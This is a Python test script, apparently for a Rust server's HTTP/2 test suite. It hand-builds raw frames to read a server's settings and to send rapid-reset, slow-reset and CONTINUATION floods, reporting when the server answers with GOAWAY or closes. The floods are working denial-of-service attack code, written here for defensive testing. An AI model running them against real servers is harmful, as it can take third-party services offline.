"""Raw HTTP/2 (h2c, prior knowledge) frames for tests/h2.rs: what a server announces, and
the floods a hostile client sends. Frames are written by hand (RFC 9113 section 4, HPACK
static-table and literal fields, RFC 7541), so nothing in between is polite.

    h2_attack.py settings HOST:PORT              the server's SETTINGS and window, as JSON
    h2_attack.py rapid_reset HOST:PORT N         N streams, each HEADERS then RST_STREAM at once
    h2_attack.py slow_reset HOST:PORT N PATH     each stream reset 20 ms after its HEADERS
    h2_attack.py continuation HOST:PORT N        one HEADERS, then N 1 KiB CONTINUATION frames

Each flood prints JSON: how much it sent before the server closed the connection, and the
GOAWAY error code it got, if any.
"""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first=0):
    """An HPACK integer with a `prefix_bits` prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name_index, value):
    """A literal field without indexing, its name from the static table."""
    return integer(name_index, 4) + integer(len(value), 7) + value


def literal_new(name, value):
    return b"\x00" + integer(len(name), 7) + name + integer(len(value), 7) + value


def get(authority, path=b"/"):
    # :method GET (2), :scheme http (6), :path (4), :authority (1)
    block = b"\x82\x86" + (b"\x84" if path == b"/" else literal(4, path))
    return block + literal(1, authority)


class Conn:
    def __init__(self, addr):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = addr.encode()
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.settings = {}
        self.window = None
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def pump(self, wait=0.0):
        """Reads what the server sent; acknowledges its SETTINGS."""
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready:
                return
            try:
                data = self.sock.recv(65536)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buf += data
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                kind, flags = self.buf[3], self.buf[4]
                payload = self.buf[9:9 + length]
                self.buf = self.buf[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    for i in range(0, len(payload), 6):
                        key, value = struct.unpack(">HI", payload[i:i + 6])
                        self.settings[key] = value
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == WINDOW_UPDATE and self.window is None:
                    self.window = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
                elif kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
            wait = 0.0

    def result(self, **sent):
        # Whatever the server still says before it closes.
        deadline = time.monotonic() + 5
        while not self.closed and time.monotonic() < deadline:
            self.pump(0.2)
        return json.dumps(dict(sent, goaway=self.goaway, closed=self.closed))


def settings(addr):
    c = Conn(addr)
    deadline = time.monotonic() + 5
    while (not c.settings or c.window is None) and time.monotonic() < deadline:
        c.pump(0.2)
    names = {1: "header_table_size", 3: "max_concurrent_streams", 4: "initial_window_size",
             5: "max_frame_size", 6: "max_header_list_size"}
    out = {names.get(k, str(k)): v for k, v in c.settings.items()}
    out["connection_window"] = 65535 + (c.window or 0)
    print(json.dumps(out))


def rapid_reset(addr, n):
    c = Conn(addr)
    block = get(c.authority)
    sent = 0
    for batch in range(0, n, 100):
        out = b""
        for i in range(batch, min(n, batch + 100)):
            stream = 2 * i + 1
            out += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
        c.send(out)
        c.pump()
        if c.closed or c.goaway is not None:
            break
        sent = min(n, batch + 100)
    print(c.result(streams=sent))


def slow_reset(addr, n, path):
    c = Conn(addr)
    block = get(c.authority, path.encode())
    sent = 0
    for i in range(n):
        stream = 2 * i + 1
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
        time.sleep(0.02)
        c.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        c.pump()
        if c.closed or c.goaway is not None:
            break
        sent = i + 1
    print(c.result(streams=sent))


def continuation(addr, n):
    c = Conn(addr)
    c.send(frame(HEADERS, 0, 1, get(c.authority)))
    junk = literal_new(b"x-junk", b"j" * 1000)
    sent = 0
    for i in range(n):
        c.send(frame(CONTINUATION, 0, 1, junk))
        if i % 50 == 0:
            c.pump()
        if c.closed or c.goaway is not None:
            break
        sent = i + 1
    print(c.result(frames=sent))


def main():
    mode, addr, args = sys.argv[1], sys.argv[2], sys.argv[3:]
    if mode == "settings":
        settings(addr)
    elif mode == "rapid_reset":
        rapid_reset(addr, int(args[0]))
    elif mode == "slow_reset":
        slow_reset(addr, int(args[0]), args[1])
    elif mode == "continuation":
        continuation(addr, int(args[0]))
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
